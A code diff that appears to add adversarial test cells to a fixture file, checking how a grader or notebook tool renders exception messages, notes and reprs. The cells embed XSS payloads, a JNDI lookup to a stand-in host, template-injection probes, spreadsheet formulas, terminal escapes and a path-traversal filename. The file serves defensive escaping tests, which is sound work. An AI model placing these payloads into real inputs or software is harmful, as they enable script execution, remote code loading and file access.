@@ -189,3 +189,48 @@ while caller:
     caller = caller.f_back
 def squared_error_grad(o, y):
     return o
+
+# %% spaces_that_are_seen | plain text
+# task: forward
+def forward(*arguments):
+    raise ValueError("\u00a0\u2800\u3164\u115f\u180e\u2060\ufe0f" * 100 + "\U000e0020")
+
+# %% name_of_an_exception_group | plain text
+# task: forward
+def forward(*arguments):
+    raise ExceptionGroup("<b>\x1b[31m" * 10**5, [ValueError("\udc80"), type("=1+1,<i>", (TypeError,), {})("x")])
+
+# %% notes_of_an_exception | limits of text
+# task: squared_error_grad
+def squared_error_grad(*arguments):
+    error = ValueError("\r\n=1+1")
+    for _ in range(1000):
+        error.add_note("<script>" * 1000)
+    raise error from type("\x9b31m", (Exception,), {})("y" * 10**6)
+
+# %% typeset | escaping
+# task: squared_error_grad
+def squared_error_grad(*arguments):
+    raise ValueError(r"$\href{javascript:alert(1)}{30 of 30}$ \(\style{position:fixed}{x}\) \[\def\x{\x}\x\]")
+
+# %% templates | escaping
+# task: cross_entropy_grad
+def cross_entropy_grad(*arguments):
+    raise ValueError("{{ 7*7 }} {% raw %} ${jndi:ldap://evil.invalid} {0.__class__} %(x)s %n <%= 1 %> {resources[x]}")
+
+# %% markup_in_a_repr | escaping
+# task: detect_explosion
+class Status(str):
+    def __repr__(self): return "<img src=x onerror=alert(1)>"
+    def __format__(self, how): return "<svg onload=alert(1)>"
+def detect_explosion(*arguments, **options):
+    return Status("<b>"), -(2**53)
+
+# %% path_in_a_line | plain text
+# task: hidden_grads
+def hidden_grads(*arguments):
+    exec(compile("raise ValueError('x')", "<cell 0>/../../../etc/passwd", "exec"))
+
+# %% line_before_the_first | plain text
+# task: hidden_grads
+exec(compile("\n" * 3 + "def hidden_grads(*arguments):\n    raise ValueError('`' * 500)", "<cell 2>", "exec"))
